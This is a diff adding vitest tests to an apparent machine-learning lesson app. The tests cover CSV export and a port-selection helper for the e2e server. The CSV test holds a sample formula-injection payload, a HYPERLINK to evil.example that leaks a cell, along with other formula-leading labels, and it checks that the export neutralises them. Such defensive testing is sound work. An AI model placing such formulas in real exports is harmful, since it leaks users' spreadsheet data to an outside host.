@@ -2,7 +2,8 @@
 import { describe, expect, it, vi } from 'vitest';
 import { getQueryParams } from '@tensorflow/tfjs-core/dist/environment';
 import { repairQuery } from '../../src/app/pageQuery';
-import { param, parseParams, show, stripBidi, type ParamTable } from '../../src/store/params';
+import { formatValue, param, parseParams, show, stripBidi, type ParamTable } from '../../src/store/params';
+import { experimentHeaderOf, historyCsv } from '../../src/viz/export';
 import { ladder, scrubKey, specOf, type ScrubSpec } from '../../src/app/exercises/scrub';
 import { loadAndRepairSettings, parseBackendFlag, SETTINGS_KEY } from '../../src/store/settings';
 import { loadAndRepairProgress, PROGRESS_KEY } from '../../src/store/progress';
@@ -282,5 +283,107 @@ describe('26.14 the formula queue holds no element after it is done with it', ()
       }
       vi.resetModules();
     }
+  });
+});
+
+/** The cells of a CSV text as a spreadsheet splits them (RFC 4180 quoting). */
+function csvCells(text: string): { cell: string; quoted: boolean }[][] {
+  const rows: { cell: string; quoted: boolean }[][] = [];
+  for (const line of text.split('\n').filter(Boolean)) {
+    const row: { cell: string; quoted: boolean }[] = [];
+    let i = 0;
+    while (i <= line.length) {
+      if (line[i] === '"') {
+        let cell = '';
+        i++;
+        for (;;) {
+          if (line[i] === '"' && line[i + 1] === '"') {
+            cell += '"';
+            i += 2;
+          } else if (line[i] === '"') break;
+          else cell += line[i++];
+        }
+        row.push({ cell, quoted: true });
+        i += 2; // closing quote and comma
+      } else {
+        const end = line.indexOf(',', i) < 0 ? line.length : line.indexOf(',', i);
+        row.push({ cell: line.slice(i, end), quoted: false });
+        i = end + 1;
+      }
+    }
+    rows.push(row);
+  }
+  return rows;
+}
+
+describe('26.8 CSV export: the values the run used, and no formula cells', () => {
+  it('the header names the parsed seed and settings, not the link’s raw text', async () => {
+    const { PARAMS } = await import('../../lessons/relu-vs-sigmoid/params');
+    const { values } = parseParams(PARAMS, new URLSearchParams('depth=999&seed=123456&lr=abc'));
+    const v = values as Record<string, unknown>;
+    const h = experimentHeaderOf('relu-vs-sigmoid', { table: PARAMS, values: v, format: (k) => formatValue(PARAMS[k as keyof typeof PARAMS], v[k]) }, 'http://x/#/lessons/relu-vs-sigmoid?depth=999&seed=123456&lr=abc', new Date(0));
+    expect(h.seed).toBe('9999');
+    expect(h.settings).toContain('depth=6');
+    expect(h.settings).toContain('seed=9999');
+    expect(h.settings).toContain('lr=0.1');
+    expect(h.settings).not.toContain('abc');
+  });
+  it('a formula in a link or a label becomes text (OWASP: a leading quote), every field quoted, numbers stay numbers', () => {
+    const evil = '1,=HYPERLINK("http://evil.example/?leak="&A3,"help")';
+    const csv = historyCsv(
+      [
+        { label: '=SUM(A1:A9)', x: [1, 2], y: [-0.5, 2], n: 2 },
+        { label: '@cmd', x: [1], y: [1e-7], n: 1 },
+        { label: '+1', x: [2], y: [-3], n: 1 },
+        { label: '\tx', x: [2], y: [4], n: 1 },
+      ],
+      { lesson: 'x', seed: evil, settings: `seed=${evil}`, link: `http://x/#/lessons/x?seed=${evil}` },
+    );
+    const rows = csvCells(csv);
+    // Header lines: one cell each, whatever the value holds.
+    expect(rows.slice(0, 4).map((r) => r.length)).toEqual([1, 1, 1, 1]);
+    expect(rows[1]![0]!.cell).toBe(`# seed: ${evil}`);
+    expect(rows[4]!.map((c) => c.cell)).toEqual(['step', "'=SUM(A1:A9)", "'@cmd", "'+1", "'\tx"]);
+    for (const row of rows) {
+      for (const { cell, quoted } of row) {
+        if (quoted) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
+        else expect(cell === '' || Number.isFinite(Number(cell)), cell).toBe(true);
+      }
+    }
+    expect(rows[5]!.map((c) => c.cell)).toEqual(['1', '-0.5', '1e-7', '', '']);
+  });
+});
+
+describe('26.6 npm test moves the e2e server to a free port when 4317 is taken, and names who holds it', () => {
+  it('choosePort skips a taken port; portHolder names the process; test.mjs passes the port on', async () => {
+    const { createServer } = await import('node:net');
+    const { readFileSync } = await import('node:fs');
+    // @ts-expect-error: plain ESM helper of the scripts
+    const ports = (await import('../../scripts/ports.mjs')) as {
+      choosePort(p: number, tries?: number): Promise<{ port: number | null; taken: boolean }>;
+      isPortFree(p: number): Promise<boolean>;
+      portHolder(p: number): string | null;
+    };
+    // A leftover preview server: something listening on the port npm test wants.
+    const srv = createServer();
+    await new Promise<void>((r) => srv.listen({ port: 0, host: '127.0.0.1' }, r));
+    const held = (srv.address() as { port: number }).port;
+    try {
+      expect(await ports.isPortFree(held)).toBe(false);
+      const chosen = await ports.choosePort(held);
+      expect(chosen.taken).toBe(true);
+      expect(chosen.port).not.toBe(held);
+      expect(await ports.isPortFree(chosen.port!)).toBe(true);
+      // With no other port allowed (E2E_PORT set): no port, so test.mjs stops with a message.
+      expect(await ports.choosePort(held, 1)).toEqual({ port: null, taken: true });
+      const who = ports.portHolder(held);
+      if (who !== null) expect(who).toContain(`pid ${process.pid}`);
+    } finally {
+      await new Promise((r) => srv.close(r));
+    }
+    expect(await ports.choosePort(held)).toEqual({ port: held, taken: false });
+    const script = readFileSync('scripts/test.mjs', 'utf8');
+    expect(script).toMatch(/choosePort\(/);
+    expect(script).toMatch(/E2E_PORT: String\(port\)/);
   });
 });
